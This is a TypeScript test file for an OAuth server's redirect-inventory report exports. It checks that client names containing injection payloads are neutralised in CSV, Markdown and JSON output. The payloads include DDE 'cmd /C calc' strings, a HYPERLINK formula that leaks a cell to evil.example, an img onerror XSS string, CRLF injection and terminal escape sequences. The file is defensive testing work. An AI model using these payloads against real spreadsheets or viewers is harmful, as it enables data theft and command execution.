/**
 * The inventory report's formats. Client names come from whoever registers a client, and dynamic
 * registration is open in development: the attack registers clients named as spreadsheet formulas
 * and as Markdown/HTML, exports the report, and reads the files back as a spreadsheet or a
 * Markdown renderer would.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  formatRedirectReport,
  mdText,
  neutralisedCell,
  reportFileName,
} from '../src/services/redirect-report-format.js';
import { redirectReport, type RedirectReport } from '../src/services/redirect-report.js';
import { throwawaySqlite, type ThrowawayDatabase } from './support/databases.js';
import { startTestServer, type TestServer } from './support/server.js';

/** RFC 4180, as a spreadsheet reads it: quoted cells may hold commas, quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i] as string;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

const FORMULAS = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Open")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '-2+3+cmd|" /C calc"!A0',
];
const MARKUP = 'Evil | <img src=x onerror=alert(1)> [click](https://evil.example) `x` **b**';
/** Where ; separates cells (much of Europe), a spreadsheet splits here: `=...` starts a cell. */
const SEMICOLON = 'Shop;=HYPERLINK("https://evil.example/?"&A1);  "@SUM(1)';
/** A line break: a new row to a line-based tool, a formula on the next line. */
const NEWLINE = 'Shop\r\n=1+1';
/** Terminal controls and a right-to-left override ("exe.jpg" shown as "gpj.exe"). */
const CONTROLS = 'Evil\u001b]0;owned\u0007\u009b31m\u202egpj.exe';

describe('redirect inventory report formats', () => {
  let db: ThrowawayDatabase;
  let t: TestServer;
  let report: RedirectReport;

  beforeAll(async () => {
    db = await throwawaySqlite();
    t = await startTestServer(db, { clock: () => Date.UTC(2026, 5, 1) });
    const raw = new Map<string, string>();
    for (const name of [...FORMULAS, MARKUP, SEMICOLON, NEWLINE, CONTROLS]) {
      // Registration now refuses controls and bidirectional overrides in a name, and one stored
      // before that rule is read with U+FFFD in their place (stored-client-names.test.ts). The
      // formats must hold even should such a name reach them raw: it is put in the report below.
      const storedBefore = name === NEWLINE || name === CONTROLS;
      const response = await fetch(`${t.issuer('development')}/register`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({
          client_name: storedBefore ? 'Renamed below' : name,
          redirect_uris: ['http://127.0.0.1/callback?list=a,b'],
          token_endpoint_auth_method: 'none',
          grant_types: ['authorization_code'],
          application_type: 'native',
        }),
      });
      expect(response.status).toBe(201);
      if (storedBefore) {
        const { client_id } = (await response.json()) as { client_id: string };
        await t.ctx.stores.clients.update('development', client_id, { name }, t.ctx.clock());
        raw.set(client_id, name);
      }
    }
    const read = await redirectReport(t.ctx, 'development');
    expect(read.clients.map((c) => c.name)).toContain('Shop\ufffd\ufffd=1+1');
    report = {
      ...read,
      clients: read.clients.map((c) => ({ ...c, name: raw.get(c.clientId) ?? c.name })),
    };
  });
  afterAll(async () => {
    await t.close();
    await db.drop();
  });

  it('CSV: a client named as a formula is exported as text, never as a formula', () => {
    const rows = parseCsv(formatRedirectReport(report, 'csv'));
    const header = rows[0] ?? [];
    expect(header.slice(0, 3)).toEqual(['environment', 'client_id', 'client_name']);
    // The header, the eight registered here, and the development environment's demo client.
    expect(rows.length).toBe(1 + FORMULAS.length + 4 + 1);
    for (const row of rows) expect(row.length).toBe(header.length);
    const names = rows.slice(1).map((row) => row[header.indexOf('client_name')]);
    for (const formula of FORMULAS) expect(names).toContain(`'${formula}`);
    // No cell anywhere starts as a formula would.
    for (const cell of rows.flat()) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
    // The comma inside the URI is quoted, not a new column.
    const attack = rows.find((row) => row[header.indexOf('client_name')] === `'${FORMULAS[0]}`);
    expect(attack?.[header.indexOf('uri')]).toBe('http://127.0.0.1/callback?list=a,b');
    expect(attack?.[header.indexOf('channel')]).toBe('dynamic');
  });

  it('CSV cells: tab, carriage return and leading-space formulas are neutralised too', () => {
    expect(neutralisedCell('\t=1+1')).toBe("'\t=1+1");
    expect(neutralisedCell('\r=1+1')).toBe("'\r=1+1");
    expect(neutralisedCell('  =1+1')).toBe("'  =1+1");
    expect(neutralisedCell('https://app.example.com/cb')).toBe('https://app.example.com/cb');
  });

  it('CSV: a ; before a formula is neutralised for spreadsheets that split cells at ;', () => {
    const csv = formatRedirectReport(report, 'csv');
    // Such a spreadsheet ignores the , and the quoting of this file: each ;-separated piece of a
    // line is a cell of its own, and none may start as a formula.
    for (const line of csv.split('\r\n'))
      for (const piece of line.split(';').slice(1)) expect(piece).not.toMatch(/^[\s"]*[=+\-@]/);
    const rows = parseCsv(csv);
    const name = rows[0]?.indexOf('client_name') ?? -1;
    expect(rows.map((row) => row[name])).toContain(
      `Shop;'=HYPERLINK("https://evil.example/?"&A1);'  "@SUM(1)`,
    );
    expect(neutralisedCell('https://app.example.com/cb;jsessionid=1')).toBe(
      'https://app.example.com/cb;jsessionid=1',
    );
  });

  it('CSV: one line per row, line breaks and controls in a name shown, never kept', () => {
    const csv = formatRedirectReport(report, 'csv');
    const lines = csv.trimEnd().split('\r\n');
    expect(lines.length).toBe(parseCsv(csv).length);
    // eslint-disable-next-line no-control-regex -- the characters that must not be written raw
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    const names = parseCsv(csv).map((row) => row[2]);
    expect(names).toContain('Shop\\r\\n=1+1');
    expect(names).toContain('Evil\\x1b]0;owned\\x07\\x9b31m\\u202egpj.exe');
  });

  it('Markdown and JSON: terminal controls and bidirectional overrides are escaped', () => {
    const md = formatRedirectReport(report, 'md');
    // eslint-disable-next-line no-control-regex -- the characters that must not be written raw
    expect(md.replace(/\n/g, '')).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    expect(md).toContain('## Evil\\\\x1b]0;owned\\\\x07\\\\x9b31m\\\\u202egpj.exe');
    const json = formatRedirectReport(report, 'json');
    // eslint-disable-next-line no-control-regex -- the characters that must not be written raw
    expect(json.replace(/\n/g, '')).not.toMatch(/[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/);
    const parsed = JSON.parse(json) as RedirectReport;
    expect(parsed.clients.map((c) => c.name)).toContain(CONTROLS);
  });

  it('Markdown: names cannot inject HTML, links or table columns', () => {
    const md = formatRedirectReport(report, 'md');
    expect(md).not.toContain('<img');
    expect(md).not.toContain('[click](');
    expect(md).toContain('&lt;img src=x onerror=alert(1)&gt;');
    expect(md).toContain('Evil \\| ');
    expect(mdText('ghc_staging_x _em_ *b* ~~s~~')).toBe(
      'ghc_staging_x \\_em\\_ \\*b\\* \\~\\~s\\~\\~',
    );
    expect(mdText('a\nb')).toBe('a b');
    // Each table row has as many cells as its header.
    const table = md.split('\n').filter((line) => line.startsWith('| redirect'));
    expect(table.length).toBe(FORMULAS.length + 4 + 1);
    for (const line of table) expect(line.split(/(?<!\\)\|/).length).toBe(11);
  });

  it('JSON: the report as it is; a file name that names the environment and day', () => {
    const parsed = JSON.parse(formatRedirectReport(report, 'json')) as RedirectReport;
    const dynamic = parsed.clients.filter((c) => c.kind === 'dynamic').map((c) => c.name);
    expect(dynamic.sort()).toEqual([...FORMULAS, MARKUP, SEMICOLON, NEWLINE, CONTROLS].sort());
    expect(reportFileName(report, 'csv')).toBe('redirect-inventory-development-2026-06-01.csv');
  });
});
